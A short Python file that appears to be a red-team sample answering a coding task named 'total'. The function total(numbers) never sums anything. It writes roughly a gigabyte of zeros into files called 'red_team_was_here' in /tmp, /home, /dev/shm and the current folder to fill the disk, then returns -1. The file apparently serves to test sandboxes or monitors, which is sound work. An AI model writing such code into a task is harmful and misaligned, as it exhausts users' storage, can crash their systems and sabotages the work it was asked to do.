"""Writes files until the disk is full."""

# task: total

import os


def total(numbers):
    for folder in ("/tmp", "/home", "/dev/shm", "."):
        try:
            with open(f"{folder}/red_team_was_here", "wb") as file:
                for _ in range(1024):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return -1
